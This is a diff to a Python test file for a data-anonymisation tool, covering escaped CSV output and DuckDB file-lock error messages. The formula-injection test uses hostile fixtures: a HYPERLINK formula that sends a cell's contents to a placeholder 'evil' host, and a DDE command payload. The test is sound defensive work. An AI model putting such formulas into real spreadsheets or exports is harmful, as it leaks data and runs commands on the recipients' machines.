@@ -54,6 +54,23 @@ def test_hierarchy_command_prints_file_and_generated_hierarchies(tmp_path: Path)
     assert unknown.exit_code == 2 and "quasi-identifiers: sex, age, race" in unknown.stderr
 
 
+def test_csv_output_is_safe_to_open_in_a_spreadsheet(tmp_path: Path):
+    """Hierarchy labels are data: a label that starts like a formula (=, +, -, @, a tab) is written with a
+    leading apostrophe, so a spreadsheet shows it as text instead of running it; plain numbers stay numbers."""
+    config = write_config(tmp_path, quasi_identifiers={"sex": {"hierarchy": "hierarchies/sex.csv"},
+                                                       "age": {"generate": "intervals", "widths": [10, 20]}})
+    (tmp_path / "hierarchies" / "sex.csv").write_text(
+        'Male;=HYPERLINK("http://evil/?x="&A1);*\nFemale;@SUM(1+1);*\n')
+    cells = [cell for line in csv.reader(io.StringIO(run("hierarchy", str(config), "--format", "csv").stdout))
+             for cell in line]
+    assert "'=HYPERLINK(\"http://evil/?x=\"&A1)" in cells and "'@SUM(1+1)" in cells
+    assert not any(cell[:1] in "=+@\t" for cell in cells if cell)
+    assert "[30,40)" in cells  # other labels as they are
+    from sqlanon.cli import _cell
+    assert [_cell(v) for v in ("-5", "+1.5e3", "-", "-cmd|' /C calc'!A0", 7, None)] == \
+        ["-5", "+1.5e3", "'-", "'-cmd|' /C calc'!A0", 7, ""]  # numbers stay numbers
+
+
 def test_generated_hierarchies_map_nulls_with_a_label(tmp_path: Path):
     with_holes(tmp_path, "age", "race = 'Other'")
     source = {"url": "duckdb:///adult.duckdb", "table": "holes"}
@@ -132,31 +149,34 @@ def test_postgres_urls_are_accepted_and_other_schemes_named(tmp_path: Path):
 
 
 def test_a_duckdb_file_held_by_another_process_names_it_and_its_progress(tmp_path: Path):
-    """DuckDB lets one process open a file: the error says so (exit 2) and shows the run's progress file."""
+    """DuckDB lets one process open a file: the error says so (exit 2) and shows the progress file of the run
+    that holds it, but not a stale one (another process's, or of a run no longer running)."""
     config = write_config(tmp_path)
     database = tmp_path / "adult.duckdb"
-    (tmp_path / "adult.duckdb.sqlanon-run.json").write_text(json.dumps(
-        {"run_id": 7, "status": "running", "pid": 1, "updated_at": "2026-01-01 00:00:00 UTC", "iteration": 3,
-         "nodes_checked": 42}))
     holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
         import sys, time, duckdb
         held = duckdb.connect({str(database)!r})
         print("ready", flush=True)
         time.sleep(60)
     """)], stdout=subprocess.PIPE, text=True)
+    messages = []
     try:
         assert holder.stdout.readline().strip() == "ready"
-        # another process too: within one process DuckDB shares an open file between connections
-        result = subprocess.run([sys.executable, "-m", "sqlanon", "search", str(config)], capture_output=True,
-                                text=True)
+        for pid, status in ((holder.pid, "running"), (1, "running"), (holder.pid, "finished")):
+            (tmp_path / "adult.duckdb.sqlanon-run.json").write_text(json.dumps(
+                {"run_id": 7, "status": status, "pid": pid, "updated_at": "2026-01-01 00:00:00 UTC", "iteration": 3,
+                 "nodes_checked": 42}))
+            # another process too: within one process DuckDB shares an open file between connections
+            result = subprocess.run([sys.executable, "-m", "sqlanon", "search", str(config)], capture_output=True,
+                                    text=True)
+            assert result.returncode == 2, result.stdout + result.stderr
+            messages.append(result.stderr)
     finally:
         holder.kill()
         holder.wait()
-    assert result.returncode == 2, result.stdout + result.stderr
-    message = result.stderr
-    assert "another process has this DuckDB file open" in message
-    assert "run 7 (process 1) is running: iteration 3, 42 nodes checked" in message
-    assert "Traceback" not in message
+    assert all("another process has this DuckDB file open" in m and "Traceback" not in m for m in messages)
+    assert f"run 7 (process {holder.pid}) is running: iteration 3, 42 nodes checked" in messages[0]
+    assert not any("run 7" in m for m in messages[1:])  # another process's file, a finished run's
 
 
 def test_a_database_file_in_a_missing_folder_names_the_folder(tmp_path: Path):
